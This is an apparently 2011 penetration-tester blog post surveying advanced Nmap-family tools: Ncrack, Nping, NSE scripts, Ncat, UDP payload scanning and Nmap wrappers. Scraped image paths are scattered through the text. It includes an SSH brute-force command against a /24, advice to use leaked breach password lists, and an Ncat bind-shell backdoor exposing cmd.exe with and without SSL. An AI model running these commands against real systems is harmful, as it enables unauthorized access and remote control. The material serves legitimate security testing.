Apr 27, 2011

Advanced Nmap

Ncrack Ncrack is a command line password bruteforcer like hydra and medusa. Up until recently I was a stalwart Medusa user but what brought me over (mostly) was the superior SSH library, RDP password bruting, and easy nmap-like syntax. Should you want to audit a whole class C for ssh passwords Ncrack makes this easy:
ncrack scanme.nmap.org/24 -p 22
Ncrack supports the following protocols:
  • FTP
  • TElNET
  • SSH
  • RDP
  • HTTP(S)
  • SMB
  • POP3(s)
Comparing this to Medusa it seems like a lot less to offer, Medusa does SQL bruteforcers,  R-service bruteforcers, VNC, VMWare Authd, SNMP, etc, but in most cases I use Ncrack with Medusa as a backup. The rest of those protocols I can mostly getthrough Metasploit which is one less layer of abstraction. In some cases Ncrack can be less stable, in these cases rely on ole medusa to CYA. We recommended using password lists from SkullSecurity, Ron has made an extensive list of popular site breaches and their associated leaked passwords for pentesters to use with bruteforcing tools.


In general Hping’s utility is to generate custom packets. Using hping is way easier than implementing custom packets in a scripting languagelike python. A major drawback to Hping was its lack of inherent “scanner” type functionality, meaning that unless you created a bash wrapper or TCL script it was a one target type of tool. Nping fixes this instellar fashion by supporting Nmap syntax. Although Nmap has done it’s best to implement the type of scanning one would do with Hping/Nping nothing beats having a command line tool to send custom packets. Custom packets being a very ambiguous term, Hping has traditionally been used to test firewalls, evade IDS, send POC/DoS packets, etc. Many have moved over to Scapy as it offers a bit more in the way of  customization but Nping is a welcome addition to packet crafting tools.

NSE (Nmap Scripting Engine)

The Nmap Scripting Engine is a lua framework to do pretty much anything within nmap, with the power of nmap. If you think about it, it was a natural progression. Some bigtime firms I know have taken vuln scanners out of the rotation in their pentests opting for specific targeted NSE scripts.  In addition NSE offers a lot to both netpen and webpen. A plethora of scripts are webpen based. There are a modest 194 scripts in SVN but I know that not everyone is releasing thier scripts, which imo hurts the projects awesomeness. Lame pentesters are lame. Here are some of our favs:
  • banner - A simple banner grabber which connects to an open TCP port and prints out anything sent by the listening service within five seconds. We’ve used this to scan large domains with services not in the nmap fingerprints database and pipe the output to files for later inspection.
  • dns-cache-snoop - Performs DNS cache snooping against a DNS server. Replaces easy bash scripting, but nice.
  • hostmap - Tries to find hostnames that resolve to the target’s IP address by querying the online database athttp://www.bfk.de/bfk_dnslogger.html. Replaces Hostmap which is intermittently broken =(
  • http-brute - Performs brute force password auditing against http basic authentication. Saves some time setting up Burp to do this.
  • http-enumEnumerates directories used by popular web applications and servers. WIN. We have ported many fingerprints we see often into http-enum’s fingerprint database (in fact we are credited in that source). Dirbuster and wfuzz are great and focus on  large sets of common words for directory bruteforcing, we use http-enum for more targeted framework bruteforcing… and it works.
  • smb-enum-shares - Attempts to list shares using the srvsvc.NetShareEnumAll MSRPC function and retrieve more information about them using srvsvc.NetShareGetInfo. If access to those functions is denied, a list of common share names are checked.
  • smb-brute - Attempts to guess username/password combinations over SMB, storing discovered combinations for use in other scripts. SMBis the weakest link… goodbye.
  • smb-check-vulns - Checks for vulnerabilities: MS08-067, etc, etc.
  • smb-psexec - This script implements remote process execution similar to the Sysinternals’ psexec tool, allowing a user to run a series of programs on a remote machine and read the output. This is great for gathering information about servers, running the same tool on a range of system, or even installing a backdoor on a collection of computers.
  • As well as the more targeted SNMP, MSSQL,  MYSQL, ORACLE, and Lotus enumeration and bruteforce scripts.
As service level detection becomes available for this, well, you can imagine a lot of vuln scan companies running scared. A Sample run looks like so:
nmap -PN -sS -sV --script=vulscan -p25 www.target.com

25/tcp open  smtp    syn-ack Exim smtpd 4.69
| vulscan: [5330] Exim Configuration File Variable Overflow
| [5896] Exim sender_verify Function Remote Overflow
| [5897] Exim header_syntax Function Remote Overflow
| [5930] Exim Parenthesis File Name Filter Bypass
| [12726] Exim -be Command Line Option host_aton Function Local Overflow
| [12727] Exim SPA Authentication spa_base64_to_bits Function Remote Overflow
| [12946] Exim -bh Command Line Option dns_build_reverse Function Local Overflow
Also Nmap NSE and Metasploit have bridged a bit through new functions implemented in Metasploit, check that out. Ron also has an experimental pwdump like Nmap script that will dump password hashes and send them to you rainbow tables … effing eh…
So, NSE… get on it. Here are some links to get you hyped:
PS – I like to search for cool non-trunk scripts like this in google:  ”nse script nmap-nmap.org”  and to the left sort results by last 6 months (i do this for a lot of hacking tools actually)


Ncat is Nmap's answer to Netcat. It pretty much does everything netcat can do plus implements IPV6, UDP,  and SSL socket connections... no more stunnel! It also has hex output options, SOCKS4 + HTTP Proxying,  and built in access control. Irongeek has a video basically showing all the flag actions in practice, you can find that here. Ncat also comes with a nifty exec feature, here we are ssl wrapping our backdoor:

Backdoor ncat:
C:\Windows\System32> ncat -l --exec "cmd.exe" 1337
root@bt:~# ncat 1337
Microsoft Windows [Version 6.1.7600]
Copyright (c) 2009 Microsoft Corporation.  All rights reserved.

 Volume in drive C has no label.
 Volume Serial Number is 00E1-F423

 Directory of c:\Windows\System32

04/15/2011  03:20 AM              .
04/15/2011  03:20 AM              ..
07/13/2009  10:37 PM              0409
09/27/2010  10:33 AM              1033
Traffic Inspection of backdoor before SSL: SSL backdoor:
C:\Windows\System32> ncat -l --ssl --exec "cmd.exe" 1337
root@bt:~# ncat --ssl 1337
Traffic Inspection of "dir" command using backdoor after SSL:

Nmap UDP Payload Scanning

The issue facing accurate scanning of UDP ports is the nature of UDP programs themselves. Deliveringanything other than a legitimate UDP Payload to a service usually results in a dropped packet. This is bad news for pentesters, as we want a full and accurate scan of our targets. UDP Payload scanning is the solution (most of the time). Instead of scanning with an empty UDP packet, we send it a legitimate payload that works with the service we are scanning. If we receive a response itindicates an open port. Before Nmap 5.21, Nmap did not support UDP payload scanning. Pentesters previously counted on free tools like UnicornScan, whose author Jack C. Louis passed away last year (rest in peace Jack), or udp-proto-scanner by Portcullis Labs. Although these tools are often stellar, sometimes they are buggy and lack the Nmap type features we want in a port scanner.
Newer versions of Nmap fix that dilemma by adding the following UDP fingerprints for scanning:
udp/7 echo
udp/53 domain
udp/111 rpcbind
udp/123 ntp
udp/137 netbios-ns
udp/161 SNMP
udp/177 xdmcp
udp/500 ISAKMP
udp/520 route
udp/1645 RADIUS
udp/1812 RADIUS
udp/2049 NFS
udp/5353 zeroconf
udp/10080 amanda

Auxiliary Nmap Scripts

There are several scripts for manipulating output and extending Nmap.fastNmap and npwn – Perl scripts for maximizing scanning large networks by cutting up your scans into small tasks and analyzing large scan data in better fashion. I’m excited to use this on a cloud provider soon for some fast and furious /16 script scanning. Research project presentations (pdf’s) here and here fastnmap and npwn code hereSmap – Recently an interesting one I have played with is smap a nmap wrapper that will take namp output and run hosts through Niagos service checks as well. The author claims the checks are more accurate than Nmap.Either way, I tested the wrapper against some local lab machines and it identified more HTTP servers and and versions for non-standard ports than map did, and more accurately. Smap discussion here and download here. Sample output:
    root@bt:~/smap/scan_data/2011-04-26_16.15.29# cat report-hosts.log
    Scan_results generated for 2011-04-26_16.15.29
    --[ HOST - List ]---
    IP                        :: Port   :: Service              -> Server_Type
    ---::---::--->---               :: 10243  :: http                 -> Microsoft HTTPAPI httpd 2.0 (SSDP.UPnP). Ignored State: closed (12325)               :: 8834   :: http                 -> NessusWWW               :: 5357   :: http                 -> Microsoft HTTPAPI httpd 2.0 (SSDP.UPnP).               :: 3389   :: microsoft-rdp        -> Microsoft Terminal Service.               :: 3306   :: mysql                -> MySQL (unauthorized).               :: 2869   :: icslap?              -> .               :: 1241   :: ssl.nessus           -> Nessus Daemon (NTP v1.2).               :: 1036:: nsstp?               -> .               :: 1035   :: multidropper?        -> .               :: 1027   :: msrpc                -> Microsoft Windows RPC.               :: 1026   :: LSA-or-nterm?        -> .               :: 1025   :: msrpc                -> Microsoft Windows RPC.               :: 990    :: ftps?                -> .               :: 912    :: vmware-auth          -> VMware Authentication Daemon 1.0 (Uses VNC               :: 554    :: rtsp?                -> .               :: 445    :: netbios-ssn          -> .               :: 443    :: ssl.http             -> Apache httpd 2.2.17((Win32) mod_ssl.2.2.17 OpenSSL.0.9.8o PHP.5.3.4 mod_perl.2.0.4 Perl.
    v5.10.1).               :: 139    :: netbios-ssn          -> .               :: 135    :: msrpc                -> Microsoft Windows RPC.               :: 80     :: http                 -> Apache httpd 2.2.17 ((Win32) mod_ssl.2.2.17 OpenSSL.0.9.8o PHP.5.3.4 mod_perl.2.0.4 Perl.
    Rainmap – Rainmap was a Summer of Code project to distribute nmap scanning among cloud servers and consolidate command and control through a single web gui. Theproject was completed but is slated for a rewrite this SoC. For me, it looks like it has too many moving parts and needs some more development but it is out there. Nmap to SQL – Nmap lacks sql output for some reason. A buddy of min asked fyodor why its not there by default and fyodor told him to go read the Nmap book. he instead wrote his own, with more output than most of the comparative ones out there. Here. Nsploit – a XMLRPC bridge from nmap to metasploit(yes we know armitage is cool, we prefernon GUI apps). Learn more here Here.
    Droidmap– nmap for droid, still in dev. Here

No comments: